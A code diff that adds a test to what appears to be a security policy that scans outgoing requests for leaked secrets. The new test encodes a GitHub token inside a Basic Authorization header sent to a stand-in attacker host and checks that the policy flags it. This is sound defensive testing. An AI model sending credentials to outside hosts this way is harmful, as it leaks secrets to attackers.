@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import gzip
 import json
 from urllib.parse import quote
@@ -139,3 +140,12 @@ def test_hostile_input_scans_in_linear_time(data: bytes) -> None:
     )
     assert isinstance(decision.verdict, Verdict)
     assert data[:64].decode(errors="replace") not in decision.reason
+
+
+def test_credential_inside_basic_auth() -> None:
+    basic = "Basic " + base64.b64encode(f"user:{GITHUB}".encode()).decode()
+    decision = policy(**OPEN).check_request(
+        request("evil.example.net", headers={"Authorization": basic})
+    )
+    assert decision.rules == ("github_token",)
+    assert "basic auth" in decision.reason
